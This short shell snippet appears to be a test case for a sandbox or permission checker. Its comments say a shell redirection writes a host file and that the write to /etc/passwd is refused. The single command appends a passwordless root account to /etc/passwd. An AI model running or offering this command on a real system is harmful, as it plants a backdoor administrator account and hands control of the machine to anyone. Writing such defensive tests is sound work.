# Trick: a redirection writes a file of the host.
# Refused: write(/etc/passwd)
echo 'x::0:0::/:/bin/sh' >> /etc/passwd
